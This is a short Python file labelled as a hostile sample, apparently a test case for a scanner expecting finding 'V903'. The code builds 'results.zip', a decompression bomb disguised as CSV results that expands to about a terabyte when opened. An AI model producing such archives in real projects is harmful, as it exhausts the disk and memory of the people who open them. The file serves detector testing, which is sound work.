# label: hostile
# expect: V903
# note: Leaves a small archive that unfolds into a terabyte for whoever opens the artifacts.
import zipfile

CHUNK = bytes(1 << 24)
with zipfile.ZipFile("results.zip", "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
    for i in range(16):
        with z.open(f"part{i}.csv", "w", force_zip64=True) as f:
            for _ in range(4096):
                f.write(CHUNK)
